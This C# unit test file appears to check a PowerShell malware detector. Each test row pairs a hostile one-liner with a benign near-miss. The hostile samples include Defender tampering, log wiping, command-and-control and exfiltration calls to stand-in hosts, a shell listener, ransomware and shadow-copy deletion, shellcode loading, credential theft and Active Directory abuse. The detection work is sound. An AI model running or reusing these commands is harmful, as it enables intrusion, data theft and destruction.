using Afterpatch.Scripts.PowerShell;
using Xunit;

namespace Afterpatch.Scripts.Tests.PowerShell;

/// <summary>Each deed once as an intruder does it and once as an administrator comes close to it.</summary>
public sealed class DeedTests
{
    public static TheoryData<string, string, string> Cases()
    {
        var cases = new TheoryData<string, string, string>();
        foreach (var row in Table.Split('\n', StringSplitOptions.RemoveEmptyEntries))
            if (row.Split(" ¦ ") is [var trait, var fires, var quiet])
                cases.Add(trait.Trim(), fires.Trim(), quiet.Trim());
        return cases;
    }

    [Theory]
    [MemberData(nameof(Cases))]
    public void A_deed_is_told_and_what_comes_close_is_not(string trait, string fires, string quiet)
    {
        Assert.Contains(trait, Deobfuscator.Judge(fires).Reasons.Select(reason => reason.Key));
        var honest = Deobfuscator.Judge(quiet);
        Assert.DoesNotContain(trait, honest.Reasons.Select(reason => reason.Key));
        Assert.False(honest.Malicious);
    }

    /// <summary>The trait, a script that shows it, an honest one.</summary>
    private const string Table = """
        guards-ended ¦ foreach ($s in 'WinDefend','Sense','Sysmon') { Stop-Service $s -Force } ¦ Stop-Service Spooler, BITS
        guard-of-machine-weakened ¦ Set-MpPreference -DisableRealtimeMonitoring $true -MAPSReporting 0 ¦ Set-MpPreference -DisableRealtimeMonitoring $false -MAPSReporting Advanced
        guard-weakened-throughout ¦ Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true -SubmitSamplesConsent 2 ¦ Get-MpPreference | Select-Object DisableRealtimeMonitoring, DisableBehaviorMonitoring, DisableIOAVProtection, MAPSReporting
        guard-set-by-its-class ¦ Invoke-CimMethod -Namespace root/Microsoft/Windows/Defender -ClassName MSFT_MpPreference -MethodName Add -Arguments @{ ExclusionPath = 'C:\a' } ¦ Get-CimInstance -Namespace root/Microsoft/Windows/Defender -ClassName MSFT_MpComputerStatus
        signatures-removed ¦ & 'C:\Program Files\Windows Defender\MpCmdRun.exe' -RemoveDefinitions -All ¦ & $mp -RemoveDefinitions -DynamicSignatures; & $mp -SignatureUpdate
        exclusion-by-registry ¦ reg add "HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths" /v C:\t /d 0 /f ¦ Get-ChildItem 'HKLM:\SOFTWARE\Microsoft\Windows Defender\Exclusions'
        exclusion-of-own-place ¦ Add-MpPreference -ExclusionPath C:\t; Invoke-WebRequest http://a.example/x -OutFile C:\t\x.exe ¦ Add-MpPreference -ExclusionPath D:\SqlData
        boots-without-guards ¦ bcdedit /set '{default}' safeboot minimal; shutdown /r /t 0 ¦ bcdedit /deletevalue '{default}' safeboot
        registered-for-safe-boot ¦ reg add HKLM\SYSTEM\CurrentControlSet\Control\SafeBoot\Minimal\svc /ve /d Service /f ¦ Get-ChildItem HKLM:\SYSTEM\CurrentControlSet\Control\SafeBoot\Minimal
        record-of-tracing-switched-off ¦ Set-ItemProperty HKCU:\Environment COMPlus_ETWEnabled -Value '0' ¦ logman query -ets
        scan-interface-patched ¦ $f='AmsiScanBuffer'; $a=[AppDomain]::CurrentDomain.GetAssemblies(); $m=$a.GetType('Microsoft.Win32.UnsafeNativeMethods') ¦ Get-WinEvent -LogName 'Microsoft-Antimalware-Scan-Interface/Operational'
        log-files-emptied ¦ Remove-Item C:\Windows\System32\winevt\Logs\*.evtx -Force ¦ Get-ChildItem C:\Windows\System32\winevt\Logs | Measure-Object Length -Sum
        several-logs-cleared ¦ wevtutil cl Security; wevtutil cl System; wevtutil cl Application ¦ wevtutil gl Security; wevtutil gl System
        security-log-cleared ¦ Clear-EventLog -LogName Security ¦ Clear-EventLog -LogName 'My App'
        traces-removed-together ¦ Remove-Item C:\Windows\Prefetch\* ; Remove-Item (Get-PSReadlineOption).HistorySavePath; fsutil usn deletejournal /d c: ¦ cleanmgr /sagerun:1; Remove-Item C:\Windows\Prefetch\*; Clear-RecycleBin -Force
        looks-for-analysis ¦ if ((Get-WmiObject Win32_ComputerSystem).Model -match 'vmware|virtualbox|qemu') { exit } ¦ (Get-WmiObject Win32_ComputerSystem).Model -match 'vmware'
        looks-for-analysis-then-acts ¦ if ((Get-Process).Name -match 'wireshark|procmon|x64dbg') { exit }; iex (irm http://a.example/x) ¦ if ((Get-Process).Name -match 'outlook') { exit }; Invoke-RestMethod http://a.example/x
        hidden-and-system ¦ attrib +h +s C:\ProgramData\a.exe ¦ attrib -r C:\build\out\*.dll
        mark-of-web-removed-and-run ¦ Invoke-WebRequest https://a.example/x.exe -OutFile $env:TEMP\x.exe; Unblock-File $env:TEMP\x.exe; Start-Process $env:TEMP\x.exe ¦ Get-ChildItem .\Modules -Recurse | Unblock-File
        root-certificate-planted ¦ [IO.File]::WriteAllBytes($c,[Convert]::FromBase64String($b)); certutil -addstore root $c ¦ Import-Certificate -FilePath \\ca\pki\root.cer -CertStoreLocation Cert:\LocalMachine\Root
        traffic-sent-through-own-proxy ¦ Set-ItemProperty 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Internet Settings' ProxyEnable 1; Set-ItemProperty 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Internet Settings' ProxyServer '203.0.113.7:8080' ¦ Set-ItemProperty $k ProxyEnable 1; Set-ItemProperty $k ProxyServer 'proxy.contoso.com:8080'
        driver-of-attack-loaded ¦ sc.exe create rt type= kernel binPath= C:\Windows\Temp\RTCore64.sys ¦ sc.exe create nic type= kernel binPath= C:\Windows\System32\drivers\nic.sys
        service-made-untouchable ¦ sc.exe sdset upd "D:(D;;DCLCWPDTSD;;;IU)(A;;CCLCSWLOCRRC;;;SY)" ¦ sc.exe sdshow upd
        firewall-opened-wide ¦ netsh advfirewall firewall delete rule name=all dir=in ¦ Get-NetFirewallRule -DisplayName 'Old app*' | Remove-NetFirewallRule
        switched-off-together ¦ netsh advfirewall set allprofiles state off; bcdedit /set recoveryenabled no; sc config wuauserv start= disabled ¦ netsh advfirewall set allprofiles state off
        task-of-guard-disabled ¦ Disable-ScheduledTask -TaskPath '\Microsoft\Windows\Windows Defender\' -TaskName 'Windows Defender Scheduled Scan' ¦ Get-ScheduledTask -TaskPath '\Microsoft\Windows\Windows Defender\'
        warnings-of-guard-hidden ¦ reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\UX Configuration" /v UILockdown /t REG_DWORD /d 1 /f ¦ Get-ItemProperty 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender\UX Configuration' UILockdown
        tool-blocked-for-person ¦ reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Policies\System /v DisableTaskMgr /d 1; reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Policies\System /v DisableRegistryTools /d 1 ¦ reg query HKCU\Software\Microsoft\Windows\CurrentVersion\Policies\System /v DisableTaskMgr
        orders-fetched-run-answered ¦ while($true){ $c=(New-Object Net.WebClient).DownloadString($u); $o=iex $c | Out-String; (New-Object Net.WebClient).UploadString($u,$o); Start-Sleep 9 } ¦ while($true){ $s=Invoke-RestMethod $u; if($s.state -eq 'done'){ break }; Start-Sleep 9 }
        orders-from-a-channel ¦ while($true){ $m=irm https://api.telegram.org/botX/getUpdates; $o=iex $m.text | Out-String } ¦ irm https://api.telegram.org/botX/sendMessage -Method Post -Body @{ text = 'backup done' }
        orders-by-chat ¦ while(1){ $r=irm "$u/getUpdates"; switch -Regex ($r.text){ '^/shell (.+)'{'a'} '^/info'{'b'} }; irm "$u/sendMessage" -Method Post } ¦ irm "$u/sendMessage" -Method Post -Body @{ chat_id = 1; text = 'ok' }
        agent-names-its-machine ¦ while($true){ irm "http://a.example/b?h=$env:COMPUTERNAME" -Method Post -Body 'x'; Start-Sleep (Get-Random 60) } ¦ irm "http://a.example/inventory?h=$env:COMPUTERNAME" -Method Post -Body $b
        code-from-a-drop ¦ iex (irm https://pastebin.com/raw/abc) ¦ (irm https://pastebin.com/raw/abc) | Set-Content n.txt
        data-to-a-drop ¦ irm https://discord.com/api/webhooks/1/x -Method Post -Body @{ content = $env:COMPUTERNAME } ¦ irm https://webhook.example/x -Method Post -Body @{ content = 'done' }
        connects-to-bare-address ¦ $c = New-Object Net.Sockets.TcpClient('203.0.113.7', 443) ¦ $c = New-Object Net.Sockets.TcpClient('mail.contoso.com', 25)
        shell-bound-to-port ¦ $l=[Net.Sockets.TcpListener]4444; $l.Start(); $c=$l.AcceptTcpClient(); $o=iex $d ¦ $l=New-Object Net.HttpListener; $c=$l.GetContext(); $c.Response.Close()
        pipe-for-everyone ¦ $a=New-Object IO.Pipes.PipeAccessRule('Everyone','FullControl','Allow'); $p=New-Object IO.Pipes.NamedPipeServerStream('x'); $p.WaitForConnection() ¦ $p=New-Object IO.Pipes.NamedPipeServerStream('x'); $p.WaitForConnection()
        pipe-runs-what-it-gets ¦ $p=New-Object IO.Pipes.NamedPipeServerStream('x'); $p.WaitForConnection(); $r=New-Object IO.StreamReader($p); iex $r.ReadLine() ¦ $p=New-Object IO.Pipes.NamedPipeServerStream('x'); $p.WaitForConnection(); $r=New-Object IO.StreamReader($p); $r.ReadLine()
        data-in-echo-requests ¦ $p=New-Object Net.NetworkInformation.Ping; $b=[IO.File]::ReadAllBytes($f); $p.Send('203.0.113.7',500,[byte[]]$b[0..63]) ¦ (New-Object Net.NetworkInformation.Ping).Send('contoso.com').Status
        server-certificate-not-checked ¦ [Net.ServicePointManager]::ServerCertificateValidationCallback = { $true } ¦ [Net.ServicePointManager]::SecurityProtocol = 'Tls12'
        browser-imitated ¦ $w.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0)'); iex $w.DownloadString('http://a.example/x') ¦ Invoke-WebRequest https://a.example -UserAgent 'Mozilla/5.0' -OutFile page.html
        fetches-and-runs-by-turns ¦ while($true){ iex (irm http://203.0.113.7/t); Start-Sleep 30 } ¦ while($true){ irm http://203.0.113.7/health; Start-Sleep 30 }
        payload-of-another-kind ¦ Invoke-WebRequest http://a.example/logo.jpg -OutFile C:\t\a.exe; Start-Process C:\t\a.exe ¦ Invoke-WebRequest http://a.example/logo.jpg -OutFile C:\t\logo.jpg
        mines-in-a-pool ¦ Start-Process C:\t\m.exe '-o pool.supportxmr.com:3333 -u wallet -p x' ¦ Start-Process C:\t\m.exe '-o out.txt -u user'
        mines-by-its-arguments ¦ C:\t\a.exe --url p.example.com:3333 --user W1 --pass x ¦ curl.exe --url https://a.example --user u:p
        processes-of-data-ended ¦ 'ocssd','dbsnmp','agntsvc','mydesktopqos','encsvc','sqbcoreservice' | % { Stop-Process -Name $_ -Force } ¦ Get-Process ocssd, dbsnmp
        databases-taken-offline ¦ Get-MailboxDatabase | Dismount-Database -Confirm:$false ¦ Dismount-Database DB01
        servers-of-data-killed ¦ taskkill /f /im sqlservr.exe ¦ Get-Process sqlservr | Select-Object CPU
        servers-of-several-kinds-stopped ¦ net stop MSSQLSERVER /y; Stop-Service MSExchangeIS; Stop-Service VeeamBackupSvc ¦ Restart-Service MSSQLSERVER
        files-of-people-marked-for-locking ¦ $x='.docx','.xlsx','.pdf','.bak'; Get-PSDrive | % { gci $_.Root -Recurse | ? { $x -contains $_.Extension } | % { Lock-One $_ '.locked' } } ¦ $x='.docx','.xlsx','.pdf','.bak'; gci D:\Share -Recurse | ? { $x -contains $_.Extension } | Measure-Object
        miner-fetched ¦ Invoke-WebRequest http://a.example/xmrig.zip -OutFile x.zip; Start-Process .\xmrig.exe '-u wallet' ¦ Get-Process xmrig -ErrorAction SilentlyContinue
        files-locked-and-note-left ¦ Get-PSDrive | % { gci $_.Root -Recurse | % { $e=$a.CreateEncryptor(); Rename-Item $_ "$_.x" } }; Set-Content README_DECRYPT.txt 'Your files are encrypted, payment in bitcoin' ¦ gci D:\b -Recurse | % { $e=$a.CreateEncryptor() }; Set-Content readme.txt 'Backups are encrypted'
        drives-locked ¦ manage-bde -on D: -pw; manage-bde -protectors -delete D: -type recoverypassword; shutdown /r ¦ Enable-BitLocker C: -RecoveryPasswordProtector; BackupToAAD-BitLockerKeyProtector C: -KeyProtectorId $k
        every-file-overwritten ¦ Get-PSDrive | % { gci $_.Root -Recurse } | % { $r.NextBytes($b); [IO.File]::WriteAllBytes($_.FullName, $b); $a.CreateEncryptor() } ¦ [IO.File]::WriteAllBytes('C:\App\key.bin', $b); $r.NextBytes($b)
        files-packed-behind-password ¦ & 7z.exe a -hpSecret1 -sdel D:\x.7z D:\Shares\* ¦ & 7z.exe a -pSecret1 D:\b.7z D:\Shares\*
        packed-files-note-left ¦ & 7z.exe a -sdel D:\x.7z D:\Shares\*; Set-Content D:\READ_ME.txt 'contact us' ¦ & 7z.exe a -sdel D:\logs.7z D:\logs\*
        restore-points-removed ¦ Disable-ComputerRestore C:\; reagentc /disable ¦ Enable-ComputerRestore C:\
        copies-deleted-by-object ¦ Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() } ¦ Get-CimInstance Win32_ShadowCopy | Where-Object InstallDate -lt $old | Remove-CimInstance
        machine-destroyed ¦ Remove-Item C:\Windows -Recurse -Force ¦ Remove-Item C:\Windows\Temp\* -Recurse -Force
        starts-itself-without-end ¦ while ($true) { Start-Process powershell } ¦ while ($true) { Start-Sleep 5; Get-Process }
        input-taken-away ¦ rundll32.exe mouse,disable ¦ rundll32.exe user32.dll,LockWorkStation
        everybody-locked-out ¦ Get-ADUser -Filter * | % { Set-ADAccountPassword $_ -Reset -NewPassword (Get-Random) } ¦ Set-ADAccountPassword jdoe -Reset -NewPassword $p
        picture-of-demand-shown ¦ $g.DrawString('your files, pay bitcoin'); Set-ItemProperty 'HKCU:\Control Panel\Desktop' Wallpaper $f ¦ Set-ItemProperty 'HKCU:\Control Panel\Desktop' Wallpaper C:\Corp\logo.jpg
        files-stolen-then-locked ¦ gci D:\ -Recurse | % { (New-Object Net.WebClient).UploadFile($u,$_); $a.CreateEncryptor(); Remove-Item $_ } ¦ gci D:\out -Recurse | % { (New-Object Net.WebClient).UploadFile($u,$_) }
        machines-of-guests-stopped-and-removed ¦ Get-VM | Stop-VM -TurnOff -Force; Get-VM | Remove-VMSnapshot ¦ Get-VM web01 | Stop-VM; Export-VM web01 -Path D:\x
        account-made-domain-administrator ¦ New-ADUser svc -AccountPassword (ConvertTo-SecureString 'x' -AsPlainText -Force); Add-ADGroupMember 'Domain Admins' svc ¦ New-ADUser jdoe; Add-ADGroupMember 'Sales' jdoe
        account-made-and-hidden ¦ net user sup P1 /add; net localgroup administrators sup /add; reg add "HKLM\S\SpecialAccounts\UserList" /v sup /d 0 ¦ New-LocalUser kiosk; Add-LocalGroupMember Users kiosk
        account-made-and-reachable ¦ net user sup P1x /add; net localgroup administrators sup /add; reg add "HKLM\S\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f ¦ New-LocalUser tester -Password (Read-Host 'password' -AsSecureString); Add-LocalGroupMember Administrators tester; Set-ItemProperty 'HKLM:\S\Terminal Server' fDenyTSConnections 0
        account-with-password-made-administrator ¦ net user sup P1 /add; net localgroup administrators sup /add ¦ net user sup /delete
        replication-right-given ¦ $r=New-Object DirectoryServices.ActiveDirectoryAccessRule($s,'ExtendedRight','Allow',[Guid]'1131f6aa-9c07-11d1-f79f-00c04fc2dcd2'); $a.AddAccessRule($r) ¦ (Get-Acl 'AD:DC=a').Access | Where-Object ObjectType -eq '1131f6aa-9c07-11d1-f79f-00c04fc2dcd2'
        key-planted-in-account ¦ Set-ADObject $d -Add @{ 'msDS-KeyCredentialLink' = $k } ¦ Get-ADUser u -Properties msDS-KeyCredentialLink
        history-of-sids-changed ¦ Set-ADUser u -Add @{ sidHistory = 'S-1-5-21-1-2-3-519' } ¦ Get-ADUser -Filter * -Properties sidHistory
        delegation-written ¦ Set-ADComputer fs01 -PrincipalsAllowedToDelegateToAccount (New-ADComputer x) ¦ Get-ADComputer fs01 -Properties PrincipalsAllowedToDelegateToAccount
        preauthentication-switched-off ¦ Set-ADAccountControl u -DoesNotRequirePreAuth $true ¦ Get-ADUser -Filter { DoesNotRequirePreAuth -eq $true }
        service-name-set-to-roast ¦ Set-ADUser u -ServicePrincipalNames @{ Add = 'x/y' }; Add-Type -AssemblyName System.IdentityModel; New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken 'x/y' ¦ setspn -s HTTP/web01 svc-web
        tickets-requested-for-services ¦ setspn -q */* | % { (New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken $_).GetRequest() } ¦ setspn -l svc-web; klist
        roast-hash-made ¦ $h = '$krb5tgs$23$*' + [BitConverter]::ToString($b) ¦ Select-String krb5 C:\ProgramData\krb5.ini
        certificate-for-another ¦ $r = New-Object -ComObject X509Enrollment.CX509CertificateRequestPkcs10; $n = 'upn=administrator@corp.example' ¦ certreq -new web.inf web.req
        templates-weak-places-listed ¦ $s=[adsisearcher]'(objectClass=pKICertificateTemplate)'; $s.FindAll() | ? { $_.'msPKI-Certificate-Name-Flag' -band 1 -and $_.pKIExtendedKeyUsage -contains '1.3.6.1.5.5.7.3.2' } ¦ certutil -catemplates
        authority-weakened ¦ certutil -setreg policy\EditFlags +EDITF_ATTRIBUTESUBJECTALTNAME2 ¦ certutil -setreg policy\EditFlags -EDITF_ATTRIBUTESUBJECTALTNAME2
        policy-folder-written ¦ Set-Content "\\corp\SYSVOL\corp\Policies\{1}\Machine\Preferences\ScheduledTasks\ScheduledTasks.xml" $x ¦ Get-Content "\\corp\SYSVOL\corp\Policies\{1}\GPT.INI"
        software-pushed-by-policy ¦ New-GPO x | Set-GPPrefRegistryValue -Key 'HKLM\Software\Microsoft\Windows\CurrentVersion\Run' -ValueName a -Value b -Type String ¦ New-GPO 'Edge settings' | New-GPLink -Target 'OU=a'
        dns-record-planted ¦ $o=New-Object DirectoryServices.DirectoryEntry('LDAP://DC=wpad,DC=corp,CN=MicrosoftDNS'); $o.dnsRecord = $r ¦ Add-DnsServerResourceRecordA -Name web01 -ZoneName corp -IPv4Address 10.0.0.5
        machine-account-made-by-protocol ¦ $r=New-Object DirectoryServices.Protocols.AddRequest; $r.Attributes.Add('objectClass','computer'); 'userAccountControl','4096','unicodePwd' ¦ New-ADComputer pc01
        login-forced-to-leak ¦ Invoke-Sqlcmd "EXEC master..xp_dirtree '\\203.0.113.7\a'" ¦ Get-Printer -ComputerName ps01
        answers-for-others-on-network ¦ $u=New-Object Net.Sockets.UdpClient 5355; $n='NTLMSSP'; $Challenge='1122' ¦ Set-ItemProperty 'HKLM:\S\DNSClient' EnableMulticast 0
        hash-passed ¦ $h=New-Object Security.Cryptography.HMACMD5; $NTLMHash=$Hash; $s='NTLMSSP'; $t=New-Object Net.Sockets.TcpClient ¦ $h=New-Object Security.Cryptography.HMACMD5
        library-forced-on-service ¦ Set-ItemProperty HKLM:\S\svc\Parameters ServiceDll C:\ProgramData\a.dll ¦ Get-ItemProperty HKLM:\S\svc\Parameters ServiceDll
        remote-run-through-object ¦ $o=[Activator]::CreateInstance([Type]::GetTypeFromProgID('MMC20.Application','pc')); $o.Document.ActiveView.ExecuteShellCommand('cmd',$null,'/c x','7') ¦ $x = New-Object -ComObject Excel.Application
        code-started-on-many-machines ¦ Get-ADComputer -Filter * | % { Invoke-Command -ComputerName $_.Name { iex (irm http://a.example/x) } } ¦ Get-ADComputer -Filter * | % { Invoke-Command -ComputerName $_.Name { Get-Service } }
        domain-controller-deceived ¦ 'I_NetServerReqChallenge','I_NetServerPasswordSet2' | % { $_ } ¦ nltest /sc_reset:corp
        program-copied-to-list-and-run ¦ foreach ($h in $l) { copy C:\t\a.exe \\$h\c$\Windows\Temp\ ; psexec \\$h -s C:\Windows\Temp\a.exe } ¦ foreach ($h in $l) { copy C:\t\setup.exe \\$h\c$\Temp\ ; psexec \\$h C:\Temp\setup.exe /quiet }
        password-on-command-line ¦ foreach ($h in $l) { psexec.exe \\$h -u CORP\a -p Secret1 cmd } ¦ foreach ($h in $l) { psexec.exe \\$h -u CORP\a -p $p cmd }
        password-tried-on-machines ¦ 1..254 | % { net use \\$_\c$ /user:CORP\h Secret1; if ($?) { $_ } } ¦ net use Z: \\fs01\data
        session-of-another-taken ¦ tscon.exe 2 /dest:console ¦ query session
        remote-management-opened-to-all ¦ Set-Item WSMan:\localhost\Client\TrustedHosts '*' -Force; Set-Item WSMan:\localhost\Service\AllowUnencrypted $true ¦ Set-Item WSMan:\localhost\Client\TrustedHosts 'srv01' -Force
        remote-desktop-opened ¦ Set-ItemProperty $k fDenyTSConnections 0; net user a P1 /add ¦ Set-ItemProperty $k fDenyTSConnections 0; Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'
        cloud-tokens-taken ¦ $t=irm https://login.example/oauth2/token -Method Post -Body @{ client_id='1b730954-1685-4b74-9bfd-dac224a7b894' } ¦ Connect-MgGraph -Scopes User.Read
        seeds-searched-and-sent ¦ gci $env:USERPROFILE -Recurse | ? { $_.Name -match 'seed|mnemonic|wallet' } | % { irm http://a.example -Method Post -InFile $_ } ¦ gci D:\Garden -Recurse | ? { $_.Name -match 'seed' }
        unreadable-code-run ¦ $k = [int](Get-Content C:\k); iex (-join ((72,101,108,108,111,44,72,101,108,108,111,44,72,101,108,108,111,44,72,101,108,108,111,44,72,101,108,108,111,44,72,101,108,108,111,44,72,101,108,108,111,44,72,101,108,108,111) | % { [char]($_ -bxor $k) })) ¦ $t = 72,101,108,108,111; iex 'Get-Date'
        functions-of-a-framework ¦ function Get-NetUser {}; function Get-NetGroup {}; function Get-DomainSearcher {}; function Get-DFSshare {} ¦ function Get-NetUser {}; function Get-Report {}
        function-named-after-attack ¦ function Start-KeyLogger { 'a' } ¦ function Test-KeyLogger { 'a' }
        tool-of-intruders-started ¦ .\Rubeus.exe triage ¦ .\setup.exe /quiet
        tool-of-intruders-fetched ¦ Invoke-WebRequest http://a.example/mimikatz.zip -OutFile m.zip ¦ Invoke-WebRequest http://a.example/tool.zip -OutFile m.zip
        script-of-a-framework-fetched ¦ (New-Object Net.WebClient).DownloadString('https://raw.example/PowerSploit/master/a.ps1') ¦ (New-Object Net.WebClient).DownloadString('https://raw.example/tools/a.ps1')
        host-runs-foreign-code ¦ regsvr32.exe /s /n /u /i:http://a.example/x.sct scrobj.dll ¦ regsvr32.exe /s C:\App\ctl.ocx
        host-runs-from-writable-folder ¦ rundll32.exe C:\Users\Public\a.dll,Run ¦ rundll32.exe C:\Windows\System32\printui.dll,PrintUIEntry
        decoded-by-certificate-tool ¦ certutil -decode $env:TEMP\a.b64 $env:TEMP\a.exe ¦ certutil -decode cert.b64 cert.cer
        download-started-unseen ¦ (New-Object Net.WebClient).DownloadFile('http://a.example/a.bin',"$env:TEMP\a.exe"); Start-Process "$env:TEMP\a.exe" -WindowStyle Hidden ¦ Invoke-WebRequest https://a.example/a.msi -OutFile "$env:TEMP\a.msi"; Start-Process msiexec "/i $env:TEMP\a.msi /qn" -WindowStyle Hidden
        short-download-and-start ¦ Invoke-WebRequest https://a.example/a.exe -OutFile $env:TEMP\a.exe; Start-Process $env:TEMP\a.exe ¦ Invoke-WebRequest https://a.example/a.zip -OutFile $env:TEMP\a.zip; Expand-Archive $env:TEMP\a.zip C:\a; Start-Process C:\a\a.exe
        download-hidden-in-name ¦ Invoke-WebRequest https://a.example/x -OutFile $env:APPDATA\svchost.exe ¦ Invoke-WebRequest https://a.example/x -OutFile $env:TEMP\report.pdf
        shell-without-checks-fetches ¦ Set-Content a.bat 'powershell -nop -ep bypass -c "iwr http://a.example/x -o a.exe; start a.exe"' ¦ powershell -ep bypass -File .\build.ps1
        code-compiled-here-runs ¦ & C:\Windows\Microsoft.NET\Framework\v4.0.30319\csc.exe /out:$env:TEMP\a.exe a.cs; Start-Process $env:TEMP\a.exe ¦ & csc.exe /target:library /out:bin\a.dll a.cs
        compiled-text-attacks ¦ Add-Type 'using System; public class A { void R() { var c = new TcpClient(); Process.Start("cmd.exe"); } }' ¦ Add-Type 'using System; public class A { public int B() { return 1; } }'
        script-for-another-host-written ¦ Set-Content C:\t\a.vbs 'CreateObject("WScript.Shell").Run "powershell -f C:\t\a.ps1", 0' ¦ Set-Content C:\t\a.vbs 'MsgBox "hello"'
        started-from-webdav ¦ rundll32.exe \\a.example@80\DavWWWRoot\x.dll,Run ¦ Get-ChildItem \\fs01\data
        hidden-shell-from-share ¦ powershell -w hidden -file \\203.0.113.7\s\a.ps1 ¦ powershell -file \\fs01\netlogon\map.ps1
        program-kept-in-odd-place ¦ Start-Process C:\Windows\Fonts\a.exe ¦ Copy-Item corp.ttf C:\Windows\Fonts\corp.ttf; Start-Process notepad
        copied-from-webdav ¦ net use Z: http://a.example/dav; net use * http://a.example/dav; Copy-Item Z:\a.exe C:\t ¦ net use Z: \\fs01\data; Copy-Item Z:\a.exe C:\t
        machine-code-in-text ¦ [byte[]]$b = 0xfc,0x48,0x83,0xe4,0xf0 ¦ [byte[]]$b = 0x50,0x4b,0x03,0x04
        memory-made-code ¦ Add-Type '[DllImport("kernel32")] VirtualAlloc; CreateThread'; $p=[K]::VirtualAlloc(0,$n,0x3000,0x40); [Runtime.InteropServices.Marshal]::Copy($b,0,$p,$n) ¦ Add-Type '[DllImport("user32")] public static extern bool ShowWindow(IntPtr h, int c);' -Name a
        attacking-native-calls ¦ Add-Type '[DllImport("advapi32")] ImpersonateLoggedOnUser DuplicateTokenEx SetThreadToken' ¦ Add-Type '[DllImport("advapi32")] OpenProcessToken AdjustTokenPrivileges LookupPrivilegeValue'
        many-attacking-native-calls ¦ Add-Type '[DllImport("kernel32")] WriteProcessMemory ReadProcessMemory SuspendThread ResumeThread OpenThread' ¦ Add-Type '[DllImport("kernel32")] CloseHandle GetLastError'
        functions-looked-up-unseen ¦ $d=[AppDomain]::CurrentDomain.DefineDynamicAssembly($n,'Run'); $t='UnsafeNativeMethods'; 'GetProcAddress' ¦ $d=[AppDomain]::CurrentDomain.DefineDynamicAssembly($n,'Run')
        boot-key-assembled ¦ 'JD','Skew1','GBG','Data' | % { "HKLM:\SYSTEM\CurrentControlSet\Control\Lsa\$_" } ¦ Get-ItemProperty HKLM:\SYSTEM\CurrentControlSet\Control\Lsa
        private-data-of-lsa-read ¦ Add-Type '[DllImport("advapi32")] LsaRetrievePrivateData' ¦ Add-Type '[DllImport("advapi32")] LsaNtStatusToWinError'
        secrets-of-lsa-read ¦ [Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('SECURITY\Policy\Secrets') ¦ [Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('SOFTWARE\Policies')
        credential-store-listed ¦ $v=New-Object Windows.Security.Credentials.PasswordVault; $v.RetrieveAll() | % { $_.RetrievePassword() } ¦ cmdkey /add:srv01 /user:a
        parent-process-forged ¦ 'UpdateProcThreadAttribute','0x00020000' ¦ Start-Process notepad -PassThru
        machine-made-to-crash ¦ Add-Type '[DllImport("ntdll")] NtRaiseHardError' ¦ Restart-Computer -Force
        assembly-started-by-reflection ¦ $a=[Reflection.Assembly]::Load([Convert]::FromBase64String($b)); $a.GetType('x').GetMethod('Run').Invoke($null,$null) ¦ [Reflection.Assembly]::LoadWithPartialName('System.Web'); $t.GetMethod('Run')
        entry-of-loaded-assembly-called ¦ [Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,$null) ¦ [Reflection.Assembly]::LoadFrom('C:\App\a.dll')
        assembly-out-of-registry ¦ $b=[Convert]::FromBase64String((Get-ItemProperty HKCU:\Software\A).x); [Reflection.Assembly]::Load($b) ¦ $p=(Get-ItemProperty HKLM:\Software\A).Path; [Reflection.Assembly]::LoadFrom($p)
        internals-for-native-calls ¦ $m=$a.GetType('Microsoft.Win32.UnsafeNativeMethods').GetMethod('GetProcAddress') ¦ [Microsoft.Win32.Registry]::LocalMachine
        program-in-text-head ¦ $b=[Convert]::FromBase64String('TVqQAAMAAAAEAAAA') ¦ $b=[Convert]::FromBase64String('UEsDBBQAAAAI')
        assembly-fetched-and-loaded ¦ [Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://a.example/a')) ¦ (New-Object Net.WebClient).DownloadData('http://a.example/a') | Out-Null
        hives-through-shadow-copy ¦ cmd /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SAM C:\t\s ¦ cmd /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Data\a.mdf D:\b
        hives-opened-natively ¦ Add-Type '[DllImport("advapi32")] RegSaveKey'; [A]::RegSaveKey($h,'SAM'); 'SYSTEM' ¦ Add-Type '[DllImport("advapi32")] RegOpenKeyEx'
        tokens-and-stores-sent ¦ "$env:APPDATA\Microsoft\Teams\Cookies","$env:APPDATA\Slack\x" | % { irm http://a.example -Method Post -InFile $_ } ¦ Remove-Item "$env:APPDATA\Microsoft\Teams\Cache" -Recurse
        many-stores-searched ¦ 'Login Data','key4.db','wallet.dat','id_rsa','.kdbx','FileZilla' | % { Copy-Item $_ C:\t } ¦ Copy-Item "$env:USERPROFILE\.ssh\id_rsa" D:\b
        a-store-sent ¦ irm "http://203.0.113.7/?h=$env:COMPUTERNAME" -Method Post -InFile "$env:APPDATA\rclone.conf" ¦ Copy-Item "$env:APPDATA\rclone.conf" D:\b
        passwords-of-servers-read ¦ & appcmd.exe list apppools /text:* | Select-String password ¦ & appcmd.exe list apppools
        keys-of-federation-taken ¦ $s=[adsisearcher]'(&(thumbnailphoto=*)(CN=CryptoPolicy))'; 'CN=ADFS' ¦ Get-AdfsCertificate
        private-keys-exported ¦ gci Cert:\LocalMachine\My | ? HasPrivateKey | % { Export-PfxCertificate $_ "C:\Windows\Temp\$($_.Thumbprint).pfx" -Password $p } ¦ Export-PfxCertificate Cert:\LocalMachine\My\1 D:\web.pfx -Password $p
        authority-key-taken ¦ certutil -backupKey C:\Users\Public\ca ¦ certutil -backupKey \\backup\ca
